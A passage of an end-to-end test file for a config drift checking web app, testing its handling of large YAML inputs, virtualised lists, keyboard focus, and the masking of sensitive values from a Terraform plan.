  await page.setInputFiles('#file-input', names);
  await page.waitForSelector('.finding', { timeout: 60_000 });
  await page.waitForSelector('.plan-table', { timeout: 60_000 });
  await page.waitForTimeout(500);
  const longTasks = await page.evaluate(() => window.__longTasks);
  const times = await page.evaluate(() => window.__times);
  const results = Math.round(times.results - times.given);
  const plan = Math.round(times.plan - times.given);
  const messages = await page.evaluate(() => window.__messages);
  // The first large request (the check, with the six texts) and the first large answer after it.
  const asked = messages.findIndex(([k]) => k === 'post');
  const answered = messages.findIndex(([k], i) => k === 'answer' && i > asked);
  assert.ok(asked >= 0 && answered > asked, `the check went through the worker: ${JSON.stringify(messages)}`);
  const worker = Math.round(messages[answered][1] - messages[asked][1]);
  assert.ok(worker > 0 && worker <= results, `the worker's part (${worker} ms) is within the time to results (${results} ms)`);
  return { page, results, plan, worker, longTasks };
}

test('base + 5 environments of 10,000 values: the findings it should, and the time to results and the long tasks recorded', async (t) => {
  // Figures, not a timed assertion: they go to test-output/e2e/scale.json and the README.
  const dir = await scratchDir(t, 'driftwise-scale-');
  const names = [];
  for (let e = 0; e < 6; e++) {
    const lines = ['services:'];
    for (let s = 0; s < 100; s++) {
      lines.push(`  svc-${s}:`);
      for (let p = 0; p < 100; p++) lines.push(`    p${p}: ${e > 0 && (s * 100 + p) % 50 === e ? `changed-${e}` : `v${p}`}`);
    }
    const name = join(dir, e === 0 ? 'base.yaml' : `env${e}.yaml`);
    await writeFile(name, lines.join('\n') + '\n');
    names.push(name);
  }
  const { page, results, plan, worker, longTasks } = await timedScaleCheck(t, names, 0);
  // 200 changed values per environment, every one a finding.
  assert.match(await page.locator('.count').textContent(), /of 1000 findings/);
  // The list, the matrix and the plan table draw a window of their rows, not all of them.
  const drawn = await page.locator('.finding').count();
  assert.ok(drawn > 5 && drawn < 120, `${drawn} findings drawn`);
  assert.match(await page.locator('.matrix h2').textContent(), /1000 paths/);
  assert.ok(await page.locator('.matrix-scroll tbody tr:not(.spacer)').count() < 100);
  assert.match(await page.locator('.plan h2').textContent(), /1000 revert/);
  assert.ok(await page.locator('.plan-table tbody tr:not(.spacer)').count() < 100);
  // Scrolled to the end, each shows its last rows, in the list's order.
  const order = await page.evaluate(() => document.querySelector('.finding-list').scrollHeight);
  assert.ok(order > 1000 * 40, 'the list is as tall as all its rows');
  for (const box of ['.finding-list', '.matrix-scroll', '.plan-scroll']) {
    await page.locator(box).evaluate((el) => { el.scrollTop = el.scrollHeight; });
  }
  // The last of the 1,000 matrix rows and plan actions, and the last findings of the list (sorted by
  // severity, then path: the list ends with svc-99's changes).
  await page.waitForSelector('.matrix-scroll button.cell[data-row="999"]');
  await page.waitForSelector('.plan-table tbody tr[data-row="999"]');
  await page.waitForFunction(() => [...document.querySelectorAll('.finding')].at(-1)?.dataset.path.startsWith('/services/svc-99/'));
  // The keyboard walks past the drawn rows: the selected finding is always drawn and focused.
  await page.locator('.finding-list').evaluate((el) => { el.scrollTop = 0; });
  await page.locator('.finding button').first().click();
  for (let k = 0; k < 60; k++) await page.keyboard.press('ArrowDown');
  // The presses return before their renders (run alone, checking at once failed about one time
  // in three, and on a loaded 2-core VM the last renders can come a second after the presses):
  // read the selection, its focus and its place in one go, until two reads 200 ms apart find the
  // same row selected, focused and in view, for up to 5 s; a lost focus or a row left out of view
  // still fails.
  const state = () => page.evaluate(() => {
    const list = document.querySelector('.finding-list').getBoundingClientRect();
    const selected = document.querySelector('.finding.selected');
    const row = selected?.getBoundingClientRect();
    return {
      path: selected?.dataset.path ?? null,
      focused: document.activeElement.closest('.finding')?.classList.contains('selected') === true,
      inView: row !== undefined && row.top >= list.top - 1 && row.bottom <= list.bottom + 1,
      row: row && [row.top, row.bottom], list: [list.top, list.bottom],
      scrollTop: document.querySelector('.finding-list').scrollTop,
      viewport: [innerWidth, innerHeight],
    };
  });
  let now = await state();
  for (const deadline = Date.now() + 5000; Date.now() < deadline;) {
    await new Promise((resolve) => setTimeout(resolve, 200));
    const next = await state();
    const steady = next.path !== null && next.path === now.path;
    now = next;
    if (steady && now.focused && now.inView) break;
  }
  assert.equal(now.focused, true, 'focus stays on the selected finding');
  assert.equal(now.inView, true, `the selected finding is scrolled into view: ${JSON.stringify(now)}`);
  // The matrix's arrow keys reach rows that were not drawn when the key was pressed.
  await page.locator('.matrix-scroll').evaluate((el) => { el.scrollTop = 0; });
  await page.locator('.matrix button.cell').first().focus();
  for (let k = 0; k < 40; k++) await page.keyboard.press('ArrowDown');
  await page.waitForFunction(() => Number(document.activeElement?.dataset.row) > 100);
  assert.match(await page.evaluate(() => document.activeElement.getAttribute('aria-label')), / in env\d: /);
  await page.screenshot({ path: join(out, 'scale.png'), fullPage: true });
  // The same files given once the page has been open 3 s: the worker has warmed up by then (a
  // small check of its own a second after it starts), so the first check runs optimised code.
  const warmed = await timedScaleCheck(t, names, 3000);
  assert.match(await warmed.page.locator('.count').textContent(), /of 1000 findings/);
  const figures = {
    results_ms: results, worker_ms: worker, plan_ms: plan, long_tasks_ms: longTasks,
    warmed_results_ms: warmed.results, warmed_worker_ms: warmed.worker, warmed_plan_ms: warmed.plan,
  };
  console.log(`scale: ${JSON.stringify(figures)}`);
  await writeFile(join(out, 'scale.json'), JSON.stringify(figures, null, 2) + '\n');
});

test('a dropped Terraform plan shows drift outside Terraform and the planned changes, sensitive values masked', async (t) => {
  const page = await openApp(t);
  await page.setInputFiles('#file-input', [join(repo, 'tests', 'terraform', 'plan.json')]);
  await page.waitForSelector('.finding');
  const envs = await page.locator('.summary tbody tr').evaluateAll((rs) => rs.map((r) => r.dataset.env));
  assert.deepEqual(envs, ['live', 'planned']);
  let cliJson;
  try { execFileSync(cli, ['check', '--terraform-plan', 'plan.json', '--include-planned', '-f', 'json'], { cwd: join(repo, 'tests', 'terraform') }); } catch (e) { cliJson = e.stdout.toString(); }
  assert.deepEqual(JSON.parse((await download(page, 'JSON')).text), JSON.parse(cliJson));
  await page.click('.finding[data-path="/aws_db_instance.main/password"][data-env="live"] button');
  assert.ok(!(await page.evaluate(() => document.body.innerText)).includes('db-pass-000'), 'sensitive values stay masked');
  assert.match(await page.locator('.plan').textContent(), /a Terraform plan is read, not patched/);
  // Each finding says what Terraform does to its resource.
  assert.equal(await page.locator('.finding[data-path="/aws_instance.app[0]"] .resource-action').textContent(), 'resource: create');
  assert.equal(await page.locator('.finding[data-path="/aws_s3_bucket.logs"] .resource-action').textContent(), 'resource: delete');
});
